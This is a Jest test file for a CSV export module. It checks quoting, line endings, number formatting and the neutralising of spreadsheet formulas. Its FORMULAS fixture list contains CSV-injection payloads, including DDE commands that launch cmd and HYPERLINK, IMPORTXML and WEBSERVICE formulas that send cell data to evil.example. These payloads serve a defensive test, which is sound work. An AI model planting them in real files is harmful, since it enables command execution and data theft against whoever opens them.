import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { guardText, toCsv, unguardText } from '../../../apps/api/src/platform/csv/csv.js';
import { ACCEPTED } from '../../support/nasty-strings.js';
import { csvCells, csvRows } from '../../support/spreadsheet.js';

interface Row {
  text: string | null;
  size: number | null;
}
const table = (rows: readonly Row[]): string =>
  toCsv<Row>(
    [
      { name: 'text', of: ({ text }) => text },
      { name: 'sizeM', of: ({ size }) => size },
    ],
    rows,
  );

// The signs of the OWASP page on CSV injection, with what people have made of them.
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?leak="&A1,"x")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=WEBSERVICE("http://evil.example/")',
  '=DDE("cmd";"/C calc";"__")',
  '=@SUM(1)',
  '+1',
  '+cmd|1!A',
  '-1',
  '-2+3',
  '-cmd|1!A',
  '@SUM(1+1)',
  '@A1',
  '\t=1+1',
  '\t@x',
  '\r=1+1',
  '\r\n=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=1+1";=1+2',
  '=1+1,"=2"',
] as const;

describe('a table', () => {
  it('A27: ends every line with CRLF, begins with its header row, and is UTF-8 without a mark', () => {
    const text = table([{ text: 'ñ', size: 1.5 }]);
    expect(text).toBe('text,sizeM\r\nñ,1.5\r\n');
    expect(table([])).toBe('text,sizeM\r\n');
    expect(
      Buffer.from(text)
        .subarray(0, 3)
        .equals(Buffer.from([0xef, 0xbb, 0xbf])),
    ).toBe(false);
  });

  it('A27: quotes commas, quotes and line ends, and only them (RFC 4180)', () => {
    expect(table([{ text: 'a,b', size: null }])).toContain('"a,b",\r\n');
    expect(table([{ text: 'a"b', size: null }])).toContain('"a""b",\r\n');
    expect(table([{ text: 'a\r\nb', size: null }])).toContain('"a\r\nb",\r\n');
    expect(table([{ text: 'plain', size: 2 }])).toContain('plain,2\r\n');
  });

  it('A27: a text that a spreadsheet would calculate gets a leading quote; at least twenty such texts', () => {
    expect(FORMULAS.length).toBeGreaterThanOrEqual(20);
    for (const text of FORMULAS) {
      const [row] = csvRows(table([{ text, size: 1 }]));
      expect([text, row?.['text']]).toEqual([text, `'${text}`]);
      expect(unguardText(row?.['text'] ?? '')).toBe(text);
    }
  });

  it('A27: a number stays a number, below zero too', () => {
    for (const size of [-1.5, -0, 0, 1e21, 1e-7, -273.15, 12_345_678.9])
      expect(csvRows(table([{ text: null, size }]))[0]?.['sizeM']).toBe(size === 0 ? '0' : String(size));
    for (const size of [Number.NaN, Number.POSITIVE_INFINITY]) expect(() => table([{ text: null, size }])).toThrow('a number that is none');
  });

  it('S20: the whole corpus comes back from another reader as it was', () => {
    const rows = csvRows(table(ACCEPTED.map((text, size) => ({ text, size }))));
    expect(rows.map(({ text }) => unguardText(text ?? ''))).toEqual(ACCEPTED);
    expect(rows.map(({ sizeM }) => sizeM)).toEqual(ACCEPTED.map((_text, i) => String(i)));
    expect(rows.filter(({ text }) => /^[=+\-@\t\r]/.test(text ?? ''))).toEqual([]);
  });

  it('A27: any texts at all come back, in the same number of cells, and none begins like a formula', () => {
    const text = fc.string({
      unit: fc.oneof(
        { weight: 3, arbitrary: fc.constantFrom('=', '+', '-', '@', "'", '"', ',', '\r', '\n', '\t', ' ', ';') },
        { weight: 2, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }) },
      ),
      maxLength: 12,
    });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 8 }), (texts) => {
        const cells = csvCells(table(texts.map((one, size) => ({ text: one, size }))));
        expect(cells.slice(1).map(([first]) => unguardText(first ?? ''))).toEqual(texts);
        for (const row of cells) expect(row).toHaveLength(2);
        for (const [first] of cells) expect(first).not.toMatch(/^[=+\-@\t\r\n]/);
      }),
      { numRuns: 500 },
    );
    fc.assert(fc.property(text, (one) => unguardText(guardText(one)) === one));
  });
});
